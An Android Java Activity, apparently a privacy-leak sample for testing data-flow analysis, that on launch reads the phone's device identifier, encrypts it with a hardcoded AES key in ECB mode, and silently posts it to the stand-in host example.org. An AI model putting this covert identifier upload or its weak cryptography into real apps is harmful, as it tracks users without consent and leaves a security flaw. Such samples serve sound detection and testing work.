package org.consentry.flow.platform.encrypted;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.TelephonyManager;
import android.util.Log;
import java.io.IOException;
import java.net.HttpURLConnection;
import java.net.URL;
import java.nio.charset.StandardCharsets;
import javax.crypto.Cipher;
import javax.crypto.spec.SecretKeySpec;

public class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        TelephonyManager phone = (TelephonyManager) getSystemService(TELEPHONY_SERVICE);
        byte[] key = "0123456789abcdef".getBytes(StandardCharsets.UTF_8);
        byte[] id = phone.getDeviceId().getBytes(StandardCharsets.UTF_8);
        setTitle("" + id.length);
        byte[] secret = encrypt(key, id);
        new Thread(() -> post(secret)).start();
    }

    private static byte[] encrypt(byte[] key, byte[] data) {
        try {
            Cipher cipher = Cipher.getInstance("AES/ECB/PKCS5Padding");
            cipher.init(Cipher.ENCRYPT_MODE, new SecretKeySpec(key, "AES"));
            return cipher.doFinal(data);
        } catch (java.security.GeneralSecurityException error) {
            return new byte[0];
        }
    }

    private static void post(byte[] data) {
        try {
            HttpURLConnection connection = (HttpURLConnection) new URL("https://example.org/").openConnection();
            connection.setDoOutput(true);
            connection.getOutputStream().write(data);
            connection.getResponseCode();
        } catch (IOException error) {
            Log.w("flow", "not sent");
        }
    }
}
